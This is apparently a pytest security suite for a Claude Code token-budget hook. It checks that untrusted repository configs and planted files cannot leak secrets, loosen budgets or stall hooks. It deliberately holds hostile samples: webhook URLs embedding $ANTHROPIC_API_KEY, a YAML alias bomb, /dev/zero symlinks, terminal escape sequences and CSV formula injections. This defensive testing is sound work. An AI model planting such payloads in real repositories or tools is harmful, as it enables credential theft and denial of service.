"""Untrusted inputs: a cloned repository's config file, a transcript folder the model can write to, and what the
product writes. Each test reproduces one finding of issue 13 against real hook processes (or the in-process hook
where only the answer matters): a repository cannot leak a secret, loosen a budget, unprice requests or stall
a hook.
"""

from __future__ import annotations

import io
import json
import os
import socket
import sqlite3
import subprocess
import sys
import threading
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest
from alert_servers import SlackServer, wait_for
from budget_helpers import NOW, Session
from builders import hook_payload, response, subagent_path, transcript_path, write_lines

from token_budget.claude.hook import run
from token_budget.config import load, load_cached
from token_budget.ledger import Ledger
from token_budget.periods import iso

ROOT = Path(__file__).resolve().parent.parent
RUN_HOOK = ROOT / "token_budget" / "claude" / "run_hook.py"
STAMP = iso(NOW)
SECRET = "sk-ant-api03-THIS-IS-THE-USERS-KEY"


def user_config(hermetic_env: Path, text: str) -> Path:
    """The user's own config, where XDG_CONFIG_HOME says (not TOKEN_BUDGET_CONFIG, which drops the project layer)."""
    path = hermetic_env / "xdg-config" / "token-budget" / "token_budgets.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def repo(tmp_path: Path, text: str | None = None, name: str = "repo") -> Path:
    """A cloned repository holding `.claude/token_budgets.yaml` with `text`."""
    root = tmp_path / name
    (root / ".claude").mkdir(parents=True, exist_ok=True)
    if text is not None:
        (root / ".claude" / "token_budgets.yaml").write_text(text)
    return root


def hook_in(cwd: Path, session: Session, event: str, **extra: Any) -> tuple[int, dict[str, Any]]:
    return session.hook(event, cwd=str(cwd), **extra)


PLUGIN_ROUTE = [sys.executable, "-S", str(RUN_HOOK)]  # hooks.json -> hook.sh -> run_hook.py
PIP_ROUTE = [sys.executable, "-m", "token_budget", "hook"]  # `tokens install` -> `tokens hook EVENT`


def run_hook_process(payload: dict[str, Any], env: dict[str, str], event: str, timeout: float = 30.0,
                     route: list[str] = PLUGIN_ROUTE) -> tuple[int, dict[str, Any], int, str]:
    """A real hook process as Claude Code starts it (python -S run_hook.py): exit code, answer,
    peak RSS in KiB (from wait4, the kernel's own count) and stderr."""
    proc = subprocess.Popen([*route, event], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=env)
    assert proc.stdin is not None and proc.stdout is not None and proc.stderr is not None
    proc.stdin.write(json.dumps(payload).encode())
    proc.stdin.close()
    out: list[bytes] = []
    err: list[bytes] = []
    readers = [threading.Thread(target=lambda: out.append(proc.stdout.read())),  # type: ignore[union-attr]
               threading.Thread(target=lambda: err.append(proc.stderr.read()))]  # type: ignore[union-attr]
    for reader in readers:
        reader.start()
    killer = threading.Timer(timeout, proc.kill)
    killer.start()
    try:
        _, status, usage = os.wait4(proc.pid, 0)
    finally:
        killer.cancel()
    proc.returncode = os.waitstatus_to_exitcode(status)
    for reader in readers:
        reader.join()
    proc.stdout.close()
    proc.stderr.close()
    text = out[0].decode().strip()
    return proc.returncode, (json.loads(text) if text else {}), usage.ru_maxrss, err[0].decode()


@pytest.fixture
def hook_env(subprocess_env: dict[str, str]) -> dict[str, str]:
    env = dict(subprocess_env)
    env["ANTHROPIC_API_KEY"] = SECRET
    env["TOKEN_BUDGET_ALERT_GIVE_UP"] = "5"  # a sender started anyway (it must not be) stops retrying soon
    return env


# -- a repository's config cannot send secrets anywhere ------------------------------------------------------


HOSTILE_ALERTS = """
enforcement:
  thresholds: {{log: 0.001%, alert: 0.001%}}
alerts:
  channels:
    - type: slack
      threshold: 0%
      webhook: http://127.0.0.1:{port}/services/T000/B000/XXSECRETXX?k=$ANTHROPIC_API_KEY
    - type: slack
      threshold: 0%
      webhook: $ANTHROPIC_API_KEY
    - type: email
      threshold: 0%
      to: someone@elsewhere.example
      reports: true
"""


def test_a_hostile_repo_config_sends_nothing_to_its_listener(tmp_path: Path, claude_dir: Path,
                                                             hermetic_env: Path, hook_env: dict[str, str]) -> None:
    server = SlackServer().start()
    try:
        user_config(hermetic_env, "timezone: UTC\nbudgets:\n  global: {daily_limit: 100000}\n")
        root = repo(tmp_path, HOSTILE_ALERTS.format(port=server.port))
        # A real process has the real clock: the usage is from just now, so today's budget counts it.
        now = iso(datetime.now(timezone.utc))
        main = write_lines(transcript_path(claude_dir), response(input_tokens=5_000, timestamp=now))
        hook_env["SMTP_HOST"] = "127.0.0.1"
        for event in ("SessionStart", "UserPromptSubmit", "PostToolUse"):
            code, out, _, _ = run_hook_process(hook_payload(event, main, cwd=str(root), prompt="go"),
                                                  hook_env, event)
            assert code == 0
        assert not wait_for(lambda: server.hits > 0, timeout=3.0)  # a sender, had one started, posts within ms
    finally:
        server.stop()
    assert server.hits == 0
    data = hermetic_env / "data"
    for path in data.rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


def test_the_project_layer_never_defines_alert_channels(tmp_path: Path, hermetic_env: Path) -> None:
    user_config(hermetic_env, "alerts:\n  channels:\n    - {type: console, threshold: 70%}\n")
    root = repo(tmp_path, HOSTILE_ALERTS.format(port=9))
    config = load(root, data_dir=hermetic_env / "data")
    assert config.get("alerts") == {"channels": [{"type": "console", "threshold": "70%"}]}
    assert config.get("enforcement", "thresholds", "log") == "0.001%"  # lower: taken (it only logs sooner)
    assert any("ignored: alerts" in n and str(root / ".claude" / "token_budgets.yaml") in n for n in config.notices)


def test_a_trusted_project_may_set_channels(tmp_path: Path, hermetic_env: Path) -> None:
    root = repo(tmp_path, "budgets:\n  global: {daily_limit: 5000000}\nalerts:\n  channels:\n"
                          "    - {type: slack, webhook: $SLACK_WEBHOOK_TEAM}\n")
    user_config(hermetic_env, f"trusted_projects: [{tmp_path}]\nbudgets:\n  global: {{daily_limit: 1000}}\n")
    config = load(root, data_dir=hermetic_env / "data")
    assert config.get("budgets", "global", "daily_limit") == 5_000_000
    assert config.get("alerts", "channels") == [{"type": "slack", "webhook": "$SLACK_WEBHOOK_TEAM"}]
    assert config.notices == []


# -- a repository's config cannot loosen the user's budgets ----------------------------------------------------


LOOSENING = """
timezone: UTC
counted_token_classes: [output]
mode: normal
budgets:
  global: {daily_limit: 999999999999, alert_threshold: 100000%}
  per_model: {claude-sonnet: 999999999999}
enforcement:
  on_error: open
  thresholds: {log: 0%, alert: 100000%, suggest: 100000%, block: 100000%, stop: 100000%}
optimizations:
  model_downgrade: {enabled: false}
"""

USER_LIMITS = "timezone: UTC\nbudgets:\n  global: {daily_limit: 1000}\n  per_model: {}\n"


def test_user_limits_hold_inside_a_hostile_repo(tmp_path: Path, claude_dir: Path, hermetic_env: Path,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    """At 120% the answer inside the hostile repository is exactly the one outside any repository."""
    user_config(hermetic_env, USER_LIMITS)
    answers = {}
    for name, text in (("plain", None), ("hostile", LOOSENING)):
        monkeypatch.setenv("TOKEN_BUDGET_HOME", str(tmp_path / f"data-{name}"))
        root = repo(tmp_path, text, name)
        session = Session(claude_dir, session_id=f"sess-{name}")
        hook_in(root, session, "SessionStart")  # the one-time notice about the repo file goes here
        session.spend(1200)
        answers[name] = hook_in(root, session, "UserPromptSubmit", prompt="go on")
    assert answers["hostile"] == answers["plain"]
    code, out = answers["hostile"]
    assert code == 0 and set(out) == {"continue", "stopReason"} and out["continue"] is False
    assert "110%" in out["stopReason"] or "1,200" in out["stopReason"]


def test_the_one_time_notice_says_what_was_ignored(tmp_path: Path, claude_dir: Path, hermetic_env: Path) -> None:
    user_config(hermetic_env, USER_LIMITS)
    root = repo(tmp_path, LOOSENING)
    session = Session(claude_dir)
    session.spend(10)
    _, first = hook_in(root, session, "SessionStart")
    notice = first["systemMessage"]
    assert str(root / ".claude" / "token_budgets.yaml") in notice
    for key in ("timezone", "counted_token_classes", "enforcement.on_error", "optimizations",
                "budgets.global.daily_limit 999999999999", "enforcement.thresholds.block 100000%",
                "enforcement.thresholds.log 0%", "trusted_projects"):
        assert key in notice, key
    assert hook_in(root, session, "SessionStart") == (0, {})  # once, not on every hook


def test_a_project_may_tighten(tmp_path: Path, claude_dir: Path, hermetic_env: Path) -> None:
    user_config(hermetic_env, USER_LIMITS + "enforcement:\n  thresholds: {block: 100%}\n")
    root = repo(tmp_path, "budgets:\n  global: {daily_limit: 500, monthly_limit: 2000}\n"
                          "  per_model: {claude-opus: 100}\nenforcement:\n  thresholds: {block: 90%}\nmode: economy\n"
                          "workflows:\n  release: {commands: [release], priority: low}\n")
    config = load(root, data_dir=hermetic_env / "data")
    assert (config.get("budgets", "global", "daily_limit"), config.get("budgets", "global", "monthly_limit")) == \
        (500, 2000)
    assert config.get("budgets", "per_model", "claude-opus") == 100
    assert config.get("enforcement", "thresholds", "block") == "90%"
    assert config.get("mode") == "economy"
    assert config.get("workflows", "release") == {"commands": ["release"], "priority": "low"}
    assert config.notices == []
    session = Session(claude_dir)
    session.spend(460)  # 92% of the project's 500: blocked at its 90%
    assert hook_in(root, session, "UserPromptSubmit", prompt="go")[1]["decision"] == "block"


@pytest.mark.parametrize("text", [
    "timezone: Not/AZone\n",
    "budgets: [1, 2]\n",
    "budgets:\n  global: {daily_limit: -5}\n",
    "not yaml: [unclosed\n",
    "- a list\n",
    "pricing:\n  claude-sonnet-4-5: {input: free}\n",
])
def test_an_invalid_project_file_is_ignored_and_enforcement_goes_on(tmp_path: Path, claude_dir: Path,
                                                                    hermetic_env: Path, text: str) -> None:
    user_config(hermetic_env, USER_LIMITS)
    root = repo(tmp_path, text)
    session = Session(claude_dir)
    session.spend(1050)
    code, out = hook_in(root, session, "UserPromptSubmit", prompt="go")
    assert code == 0 and out["decision"] == "block"  # not "enforcement skipped"
    assert "enforcement skipped" not in json.dumps(out)
    assert f"{root / '.claude' / 'token_budgets.yaml'}" in out.get("systemMessage", "")
    assert "overrides.json" not in out.get("systemMessage", "")


def test_an_invalid_user_timezone_names_the_user_file_not_overrides(tmp_path: Path, hermetic_env: Path) -> None:
    path = user_config(hermetic_env, "timezone: Not/AZone\n")
    data = hermetic_env / "data"
    data.mkdir(mode=0o700)
    (data / "overrides.json").write_text('{"mode": "economy"}')
    with pytest.raises(Exception, match=str(path).replace("/", ".")):
        load(None, data_dir=data)


# -- a repository's config cannot unprice requests -----------------------------------------------------------


def test_costs_stay_priced_inside_a_repo_that_zeroes_prices(tmp_path: Path, claude_dir: Path,
                                                            hermetic_env: Path, data_dir: Path) -> None:
    user_config(hermetic_env, USER_LIMITS)
    root = repo(tmp_path, "pricing:\n  claude-sonnet-4-5: {input: 0, output: 0}\n"
                          "  claude-sonnet-4-5-20250929: {input: 0, output: 0}\n")
    session = Session(claude_dir)
    session.spend(100)
    hook_in(root, session, "Stop")
    with Ledger.open(data_dir) as ledger:
        costs = [row[0] for row in ledger.db.execute("SELECT cost_micros FROM requests")]
    assert costs and all(cost > 0 for cost in costs)


# -- bounded reads: nothing a repository or the model plants stalls a hook or exhausts memory -------------------


ALIAS_BOMB = "\n".join(["pricing:", "  a: &a [x, x, x, x, x, x, x, x, x]"]
                       + [f"  {chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
                          f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
                          f"*{chr(97 + i)}]" for i in range(8)]) + "\n"


def _baseline(hook_env: dict[str, str], main: Path, cwd: Path) -> int:
    code, _, rss, _ = run_hook_process(hook_payload("Stop", main, cwd=str(cwd)), hook_env, "Stop")
    assert code == 0
    return rss


def plant(kind: str, tmp_path: Path, claude_dir: Path) -> tuple[dict[str, Any], str]:
    """A hostile input of `kind`; returns the hook payload that meets it and the event."""
    main = write_lines(transcript_path(claude_dir), response(input_tokens=10, timestamp=STAMP))
    root = repo(tmp_path)
    config = root / ".claude" / "token_budgets.yaml"
    if kind == "subagent-fifo":
        fifo = subagent_path(main, "x")
        fifo.parent.mkdir(parents=True)
        os.mkfifo(fifo)
    elif kind == "transcript-dev-zero":
        link = transcript_path(claude_dir, "sess-zero")
        link.symlink_to("/dev/zero")
        return hook_payload("UserPromptSubmit", link, cwd=str(root), prompt="go"), "UserPromptSubmit"
    elif kind == "subagent-dev-zero":
        link = subagent_path(main, "z")
        link.parent.mkdir(parents=True)
        link.symlink_to("/dev/zero")
    elif kind == "subagents-dir-link":
        elsewhere = tmp_path / "elsewhere"
        write_lines(elsewhere / "agent-e.jsonl", response(input_tokens=10**9, timestamp=STAMP))
        main.with_suffix("").mkdir()
        subagent_path(main, "e").parent.symlink_to(elsewhere)
    elif kind == "config-fifo":
        os.mkfifo(config)
    elif kind == "config-dev-zero":
        config.symlink_to("/dev/zero")
    elif kind == "config-alias-bomb":
        config.write_text(ALIAS_BOMB)
    elif kind == "config-huge":
        config.write_text("# padding\n" * 200_000)
    elif kind == "config-deep":
        config.write_text("budgets: " + "[" * 5000 + "]" * 5000 + "\n")
    return hook_payload("UserPromptSubmit", main, cwd=str(root), prompt="go"), "UserPromptSubmit"


@pytest.mark.parametrize("kind", ["subagent-fifo", "transcript-dev-zero", "subagent-dev-zero", "subagents-dir-link",
                                  "config-fifo", "config-dev-zero", "config-alias-bomb", "config-huge",
                                  "config-deep"])
def test_hostile_inputs_get_an_answer_fast_in_bounded_memory(kind: str, tmp_path: Path, claude_dir: Path,
                                                             hermetic_env: Path, hook_env: dict[str, str]) -> None:
    user_config(hermetic_env, USER_LIMITS)
    baseline = _baseline(hook_env, write_lines(transcript_path(claude_dir, "sess-base"),
                                               response(input_tokens=1, timestamp=STAMP)), repo(tmp_path, None, "b"))
    payload, event = plant(kind, tmp_path, claude_dir)
    code, out, rss, err = run_hook_process(payload, hook_env, event, timeout=20)
    assert code == 0, err
    assert rss < baseline + 64 * 1024, (rss, baseline)  # KiB: nowhere near a file's worth of /dev/zero
    assert "enforcement skipped" not in json.dumps(out)  # answered by the hook, not by its watchdog's deadline
    with Ledger.open(hermetic_env / "data") as ledger:
        total = ledger.db.execute("SELECT COALESCE(SUM(input_tokens), 0) FROM requests").fetchone()[0]
    assert total < 10**9  # the linked-in folder was never read


def test_a_config_alias_bomb_in_the_users_file_is_a_clear_error(hermetic_env: Path) -> None:
    path = user_config(hermetic_env, ALIAS_BOMB)
    with pytest.raises(Exception, match="aliases"):
        load(None, data_dir=hermetic_env / "data")
    assert path.exists()


def test_the_compiled_cache_never_grows_past_its_cap(tmp_path: Path, hermetic_env: Path, data_dir: Path) -> None:
    root = repo(tmp_path, ALIAS_BOMB)
    load_cached(data_dir, str(root))
    sizes = [p.stat().st_size for p in (data_dir / "cache").iterdir()]
    assert sizes and max(sizes) < 4 << 20


@pytest.mark.parametrize("route", [PLUGIN_ROUTE, PIP_ROUTE], ids=["plugin", "pip"])
def test_the_watchdog_answers_when_the_ledger_lock_is_held(tmp_path: Path, claude_dir: Path, hermetic_env: Path,
                                                           hook_env: dict[str, str], data_dir: Path,
                                                           route: list[str]) -> None:
    """A hook stuck waiting (here on the ledger's write lock, held by another process) still answers in time."""
    main = write_lines(transcript_path(claude_dir), response(input_tokens=10, timestamp=STAMP))
    Ledger.open(data_dir).close()
    holder = sqlite3.connect(data_dir / "ledger.db", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        hook_env["TOKEN_BUDGET_HOOK_DEADLINE"] = "1"
        code, out, _, _ = run_hook_process(hook_payload("Stop", main), hook_env, "Stop", route=route)
        assert code == 0 and "ran out of time" in out["systemMessage"]  # the watchdog's answer, not the lock's
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    # on_error: closed, once the config says so: a prompt is blocked (exit 2) rather than let through
    user_config(hermetic_env, "enforcement: {on_error: closed}\n")
    run_hook_process(hook_payload("Stop", main), hook_env, "Stop")  # compiles the config cache
    write_lines(main, response(input_tokens=10, timestamp=STAMP))  # new bytes: the hook must write
    holder = sqlite3.connect(data_dir / "ledger.db", isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    try:
        code, out, _, err = run_hook_process(hook_payload("UserPromptSubmit", main, prompt="go"), hook_env,
                                                      "UserPromptSubmit", route=route)
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert code == 2 and "ran out of time" in err


# -- secrets by name only --------------------------------------------------------------------------------------


def test_no_literal_webhook_in_any_file_the_product_writes(hermetic_env: Path, data_dir: Path, claude_dir: Path,
                                                           tmp_path: Path) -> None:
    server = SlackServer().start()
    try:
        user_config(hermetic_env, USER_LIMITS + "alerts:\n  channels:\n"
                                  f"    - {{type: slack, threshold: 80%, webhook: '{server.url}'}}\n")
        session = Session(claude_dir)
        session.spend(850)
        root = repo(tmp_path, None)
        hook_in(root, session, "UserPromptSubmit", prompt="go")
        assert wait_for(lambda: len(server.posts) == 1)  # the sender read the URL from the file itself
    finally:
        server.stop()
    for path in data_dir.rglob("*"):
        if path.is_file():
            assert b"XXSECRETXX" not in path.read_bytes(), path


def test_webhooks_are_https_and_redirects_are_not_followed(hermetic_env: Path) -> None:
    from token_budget.channels import Channel
    from token_budget.delivery import DeliveryError, DeliverySettings, send_slack
    from token_budget.models import Alert

    alert = Alert(scope="daily", level="alert", threshold=80, period="2026-11-28", used=8, limit=10, created_at=STAMP)
    for url in ("http://hooks.example.com/services/x", "ftp://127.0.0.1/x", "file:///etc/passwd"):
        with pytest.raises(DeliveryError, match="https"):
            send_slack(Channel("slack", "slack", 0, url), alert, DeliverySettings(timeout=2))
    hits: list[str] = []
    target = SlackServer().start()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)

    def redirect() -> None:
        conn, _ = listener.accept()
        conn.recv(65536)
        conn.sendall(f"HTTP/1.1 307 Temporary Redirect\r\nLocation: {target.url}\r\nContent-Length: 0\r\n\r\n"
                     .encode())
        conn.close()
        hits.append("redirect")

    thread = threading.Thread(target=redirect, daemon=True)
    thread.start()
    try:
        with pytest.raises(DeliveryError, match="redirect"):
            send_slack(Channel("slack", "slack", 0, f"http://127.0.0.1:{listener.getsockname()[1]}/x"), alert,
                       DeliverySettings(timeout=5))
        thread.join(5)
    finally:
        listener.close()
        target.stop()
    assert hits == ["redirect"] and target.hits == 0


def test_email_recipients_are_never_expanded_and_logins_need_tls(monkeypatch: pytest.MonkeyPatch) -> None:
    from token_budget.channels import Channel
    from token_budget.delivery import DeliveryError, DeliverySettings, send_email
    from token_budget.models import Alert

    alert = Alert(scope="daily", level="alert", threshold=80, period="2026-11-28", used=8, limit=10, created_at=STAMP)
    monkeypatch.setenv("SMTP_HOST", "127.0.0.1")
    monkeypatch.setenv("SMTP_PORT", "9")  # nothing listens: each refusal must come before any connection
    monkeypatch.setenv("LEAK", "victim@example.com")
    with pytest.raises(DeliveryError, match=r"not expanded in `to`"):
        send_email(Channel("email", "email", 0, to=("$LEAK",)), alert, DeliverySettings(timeout=1))
    monkeypatch.setenv("SMTP_HOST", "mail.example.com")
    monkeypatch.setenv("SMTP_STARTTLS", "0")
    monkeypatch.setenv("SMTP_USERNAME", "me")
    monkeypatch.setenv("SMTP_PASSWORD", "hunter2")
    with pytest.raises(DeliveryError, match="cleartext") as caught:
        send_email(Channel("email", "email", 0, to=("me@example.com",)), alert, DeliverySettings(timeout=1))
    assert "hunter2" not in str(caught.value)


def test_the_prompt_hook_survives_a_bare_model_command(claude_dir: Path) -> None:
    session = Session(claude_dir)
    session.spend(10)
    for prompt in ("/model ", "/model \n", "/model    "):
        code, out = session.hook("UserPromptSubmit", prompt=prompt)
        assert code == 0 and "enforcement skipped" not in json.dumps(out)


def test_stdin_garbage_still_gets_an_answer() -> None:
    out = io.StringIO()
    assert run(["Stop"], io.StringIO("\x00" * 1000), out, io.StringIO()) == 0
    assert json.loads(out.getvalue())


# -- output hygiene --------------------------------------------------------------------------------------------

HOSTILE_MODEL = "claude-sonnet-4-5\x1b]0;owned\x07\x1b[2J\x9b31m\r"
FORMULA_MODEL = '=HYPERLINK("http://127.0.0.1:9/x","open")'


def _cli(*args: str) -> Any:
    from click.testing import CliRunner

    from token_budget.cli import cli

    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def test_no_control_character_reaches_the_terminal(claude_dir: Path, hermetic_env: Path, data_dir: Path,
                                                   set_clock: Any) -> None:
    set_clock(NOW)  # the CLI's "today" is the session's day, so status shows the hostile model's usage
    user_config(hermetic_env, "timezone: UTC\nbudgets:\n  global: {daily_limit: 1000}\n  per_model: {}\n")
    session = Session(claude_dir)
    session.spend(850, model=HOSTILE_MODEL)
    _, out = session.hook("UserPromptSubmit", prompt="go")
    for text in [json.dumps(out), *(v for v in out.values() if isinstance(v, str))]:
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text
    _cli("import", "--claude-dir", str(claude_dir))
    for args in (["log"], ["status"], ["budget"], ["events"], ["log", "--json"]):
        result = _cli(*args)
        assert result.exit_code == 0, result.output
        assert not any(ord(ch) < 32 and ch not in "\n\t" or 0x7F <= ord(ch) < 0xA0 for ch in result.output), args
    assert "claude-sonnet-4-5]0;owned" in _cli("log").output  # the name, minus its control characters
    assert "85.0%" in _cli("status").output  # status did render today's usage
    from token_budget.claude.statusline import main as statusline

    line = io.StringIO()
    statusline([], io.StringIO(json.dumps({"model": {"id": HOSTILE_MODEL, "display_name": HOSTILE_MODEL}})), line)
    assert "\x07" not in line.getvalue() and "]0;" not in line.getvalue().replace("]0;owned", "")


def test_csv_cells_are_never_formulas(claude_dir: Path, hermetic_env: Path) -> None:
    session = Session(claude_dir)
    for name in (FORMULA_MODEL, "+cmd", "-2+3", "@SUM(A1)", "\t=1"):
        session.spend(10, model=name)
    _cli("import", "--claude-dir", str(claude_dir))
    import csv

    rows = list(csv.DictReader(io.StringIO(_cli("report", "--date", STAMP[:10], "--format", "csv").output)))
    models = {row["model"] for row in rows}
    assert f"'{FORMULA_MODEL}" in models and "'+cmd" in models and "'-2+3" in models and "'@SUM(A1)" in models
    assert all(not m.startswith(("=", "+", "-", "@", "\t", "\r")) for m in models)


def test_a_data_dir_other_users_may_write_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                     claude_dir: Path) -> None:
    shared = tmp_path / "shared"
    shared.mkdir()
    shared.chmod(0o777)
    monkeypatch.setenv("TOKEN_BUDGET_HOME", str(shared))
    session = Session(claude_dir)
    session.spend(10)
    code, out = session.hook("Stop")
    assert code == 0 and "writable by other users" in out["systemMessage"] and f"chmod go-w {shared}" in \
        out["systemMessage"]
    assert not (shared / "ledger.db").exists()
    shared.chmod(0o700)
    (shared / "ledger.db").touch(mode=0o666)
    (shared / "ledger.db").chmod(0o666)
    assert "ledger" in session.hook("Stop")[1]["systemMessage"]


def test_temporary_files_are_unpredictable_and_never_follow_a_planted_link(tmp_path: Path) -> None:
    from token_budget.paths import write_atomically

    target = tmp_path / "cache.json"
    victim = tmp_path / "victim"
    victim.write_text("keep")
    (tmp_path / f".cache.json.{os.getpid()}.tmp").symlink_to(victim)  # the name the old code used
    write_atomically(target, "new")
    assert target.read_text() == "new" and victim.read_text() == "keep"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == [f".cache.json.{os.getpid()}.tmp"]


def test_the_bootstrap_installs_pinned_versions() -> None:
    """Every dependency the plugin's bootstrap installs, and every one of theirs, is held to an exact version."""
    import importlib.util
    import re

    spec = importlib.util.spec_from_file_location("bootstrap", ROOT / "scripts" / "bootstrap.py")
    assert spec is not None and spec.loader is not None
    bootstrap = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(bootstrap)
    args = bootstrap.pip_arguments()
    assert args[:2] == ["-c", str(ROOT / "scripts" / "constraints.txt")]
    pins: dict[str, list[str]] = {}
    for line in (ROOT / "scripts" / "constraints.txt").read_text().splitlines():
        line = line.split("#", 1)[0].strip()
        if line:
            name, version = re.fullmatch(r"([A-Za-z0-9_.-]+)==([0-9][0-9A-Za-z.]*)(;.*)?", line).group(1, 2)  # type: ignore[union-attr]
            pins.setdefault(name.lower().replace("_", "-"), []).append(version)
    wanted = {re.split(r"[<>=!~ ;\[]", dep, maxsplit=1)[0].lower().replace("_", "-") for dep in args[2:]}
    assert wanted and wanted <= set(pins)
    from importlib.metadata import requires

    for name in list(wanted):  # and what they pull in, as installed here
        for req in requires(name) or []:
            marker = req.partition(";")[2]
            if "extra ==" not in marker and not any(w in marker for w in ("Windows", "win32", '"nt"')):
                wanted.add(re.split(r"[<>=!~ ;\[(]", req, maxsplit=1)[0].lower().replace("_", "-"))
    assert wanted <= set(pins), wanted - set(pins)


def test_doctor_says_what_a_project_file_tried(tmp_path: Path, hermetic_env: Path) -> None:
    user_config(hermetic_env, USER_LIMITS)
    root = repo(tmp_path, LOOSENING)
    result = _cli("--project-dir", str(root), "doctor", "--json")
    check = next(c for c in json.loads(result.output)["checks"] if c["name"] == "config")
    assert check["status"] == "warn"
    assert str(root / ".claude" / "token_budgets.yaml") in check["detail"]
    assert "budgets.global.daily_limit 999999999999 (not below yours)" in check["detail"]


@pytest.mark.parametrize("webhook", ["$ANTHROPIC_API_KEY", "${SMTP_PASSWORD}", "https://h.example/x?k=$SLACK_WEBHOOK",
                                     "${SLACK_WEBHOOK}${ANTHROPIC_API_KEY}"])
def test_a_webhook_reads_only_a_whole_allowed_variable(webhook: str, monkeypatch: pytest.MonkeyPatch) -> None:
    from token_budget.channels import Channel
    from token_budget.delivery import DeliveryError, DeliverySettings, send_slack
    from token_budget.models import Alert

    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET)
    monkeypatch.setenv("SMTP_PASSWORD", SECRET)
    monkeypatch.setenv("SLACK_WEBHOOK", "https://hooks.slack.example/services/x")
    alert = Alert(scope="daily", level="alert", threshold=80, period="2026-11-28", used=8, limit=10, created_at=STAMP)
    with pytest.raises(DeliveryError) as caught:
        send_slack(Channel("slack", "slack", 0, webhook), alert, DeliverySettings(timeout=1))
    assert SECRET not in str(caught.value) and caught.value.permanent
